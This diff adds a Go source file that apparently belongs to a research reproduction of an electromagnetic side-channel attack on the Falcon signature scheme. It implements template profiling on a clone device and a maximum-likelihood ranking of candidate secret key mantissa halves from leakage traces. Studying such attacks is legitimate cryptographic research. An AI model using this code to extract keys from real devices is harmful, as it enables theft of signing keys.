@@ -1,0 +1,141 @@
+package core
+
+import (
+	"errors"
+	"math"
+	"math/bits"
+	"sort"
+
+	"falcondown/internal/cpa"
+	"falcondown/internal/emleak"
+	"falcondown/internal/fft"
+	"falcondown/internal/fpr"
+)
+
+// Template is a profiled leakage model for one micro-op sample: the mean
+// and variance of the measured leakage conditioned on the Hamming-weight
+// class of the latched value. The paper's §V.A notes the attack can be
+// extended with template profiling (Chari et al.) for better measurement
+// efficiency; this implements that extension. Profiling assumes the
+// standard template threat model: the adversary owns an identical clone
+// device whose key (and therefore every intermediate) it knows.
+type Template struct {
+	mean  [65]float64
+	vari  [65]float64
+	count [65]int
+}
+
+// errNoProfile reports that no profiling class was observed.
+var errNoProfile = errors.New("core: profiling campaign produced no classes")
+
+// ProfileTemplate learns the per-class statistics from a clone-device
+// campaign with known secret (the clone's FFT(f)), at the given
+// coefficient/part/micro-op.
+func ProfileTemplate(obs []emleak.Observation, cloneSecret []fft.Cplx, coeff int, part Part, op fpr.Op) (*Template, error) {
+	if len(obs) == 0 {
+		return nil, errNoTraces
+	}
+	slot := part.mulSlot()
+	sampleAt := emleak.SampleIndex(coeff, slot, int(op))
+	var sum, sumSq [65]float64
+	t := &Template{}
+	var rec fpr.SliceRecorder
+	for _, o := range obs {
+		rec.Reset()
+		fft.MulTraced(o.CFFT[coeff], cloneSecret[coeff], &rec)
+		if rec.Len() != emleak.SamplesPerCoeff {
+			continue
+		}
+		v := rec.Values[slot*emleak.OpsPerMul+int(op)]
+		cls := bits.OnesCount64(v)
+		x := o.Trace.Samples[sampleAt]
+		sum[cls] += x
+		sumSq[cls] += x * x
+		t.count[cls]++
+	}
+	seen := 0
+	for cls := 0; cls < 65; cls++ {
+		if t.count[cls] < 2 {
+			continue
+		}
+		n := float64(t.count[cls])
+		t.mean[cls] = sum[cls] / n
+		t.vari[cls] = sumSq[cls]/n - t.mean[cls]*t.mean[cls]
+		if t.vari[cls] <= 0 {
+			t.vari[cls] = 1e-9
+		}
+		seen++
+	}
+	if seen < 2 {
+		return nil, errNoProfile
+	}
+	t.interpolate()
+	return t, nil
+}
+
+// interpolate fills unobserved classes by fitting the linear HW model
+// through the observed class means (ordinary least squares) and using the
+// pooled variance — the physically motivated extrapolation for a
+// HW-linear channel.
+func (t *Template) interpolate() {
+	var n, sx, sy, sxx, sxy, pooledVar float64
+	for cls := 0; cls < 65; cls++ {
+		if t.count[cls] < 2 {
+			continue
+		}
+		x := float64(cls)
+		n++
+		sx += x
+		sy += t.mean[cls]
+		sxx += x * x
+		sxy += x * t.mean[cls]
+		pooledVar += t.vari[cls]
+	}
+	pooledVar /= n
+	den := n*sxx - sx*sx
+	slope, inter := 0.0, sy/n
+	if den != 0 {
+		slope = (n*sxy - sx*sy) / den
+		inter = (sy - slope*sx) / n
+	}
+	for cls := 0; cls < 65; cls++ {
+		if t.count[cls] < 2 {
+			t.mean[cls] = inter + slope*float64(cls)
+			t.vari[cls] = pooledVar
+		}
+	}
+}
+
+// LogLikelihood returns the Gaussian log-likelihood of observing x under
+// the given Hamming-weight class.
+func (t *Template) LogLikelihood(cls int, x float64) float64 {
+	m, v := t.mean[cls], t.vari[cls]
+	d := x - m
+	return -0.5*math.Log(2*math.Pi*v) - d*d/(2*v)
+}
+
+// TemplateAttackLowHalf ranks candidate low mantissa halves by summed
+// log-likelihood over the campaign — the maximum-likelihood profiled
+// variant of the naive multiplication attack. Like the naive attack it
+// inherits the shift false positives (the HW classes of shifted products
+// coincide), so it is followed by the same prune phase; its advantage is
+// measurement efficiency on the distinguishable candidates.
+func TemplateAttackLowHalf(obs []emleak.Observation, coeff int, part Part, candidates []uint64, tpl *Template) []cpa.Guess {
+	slot := part.mulSlot()
+	sampleAt := emleak.SampleIndex(coeff, slot, int(fpr.OpMulLL))
+	scores := make([]float64, len(candidates))
+	for _, o := range obs {
+		_, b := part.known(o.CFFT[coeff]).MantissaHalves()
+		x := o.Trace.Samples[sampleAt]
+		for i, d := range candidates {
+			cls := bits.OnesCount64(b * d)
+			scores[i] += tpl.LogLikelihood(cls, x)
+		}
+	}
+	g := make([]cpa.Guess, len(candidates))
+	for i, s := range scores {
+		g[i] = cpa.Guess{Index: i, Corr: s}
+	}
+	sort.Slice(g, func(a, b int) bool { return g[a].Corr > g[b].Corr })
+	return g
+}
